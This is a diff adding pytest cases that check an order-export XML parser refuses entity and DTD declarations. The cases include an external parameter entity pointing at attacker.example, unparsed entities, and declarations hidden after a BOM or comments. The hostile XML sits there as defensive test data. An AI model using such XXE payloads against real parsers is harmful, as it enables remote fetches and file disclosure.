@@ -377,6 +377,33 @@ def test_external_dtd_is_never_fetched_and_harmless():
     assert mapper.parse_export(EXTERNAL_DTD) == (1, [], [])
 
 
+@pytest.mark.parametrize("data, message", [
+    # a parameter entity (pulling in an external DTD) and an unparsed entity are declarations too
+    (b'<!DOCTYPE o [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]><Orders/>', "declares entities"),
+    (b'<!DOCTYPE o [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "x" NDATA n>]><Orders/>', "declares entities"),
+    # declarations after comments and processing instructions, and after a byte-order mark
+    (b'<?xml version="1.0"?><!-- c --><?pi x?>\n<!DOCTYPE o [<!ENTITY a "b">]><Orders>&a;</Orders>',
+     "declares entities"),
+    (b"\xef\xbb\xbf<!DOCTYPE o [<!ENTITY a 'b'>]><Orders>&a;</Orders>", "declares entities"),
+    # an entity the external DTD (never read) would declare is not expanded: refused
+    (EXTERNAL_DTD.replace(b"></Orders>", b"><Order><OrderNumber>&ext;</OrderNumber></Order></Orders>"),
+     "truncated or invalid"),
+    # a DOCTYPE anywhere but the prolog is not XML
+    (b'<Orders><!DOCTYPE o [<!ENTITY a "b">]></Orders>', "truncated or invalid"),
+])
+def test_declarations_are_refused_before_the_document_is_parsed(data, message):
+    with pytest.raises(ProtocolError, match=message.replace("(", r"\(")):
+        mapper.parse_export(data)
+    with pytest.raises(ProtocolError, match=message.replace("(", r"\(")):
+        mapper.read_export(data)
+
+
+def test_declaration_words_inside_the_orders_are_text():
+    notes = "<![CDATA[<!DOCTYPE x [<!ENTITY a 'b'>]> &a;]]>"
+    record = one(doc(order_xml(extra=f"<CustomerNotes>{notes}</CustomerNotes>")))
+    assert record.customer_notes == "<!DOCTYPE x [<!ENTITY a 'b'>]> &a;"
+
+
 @pytest.mark.parametrize(
     "body, content_type, message",
     [
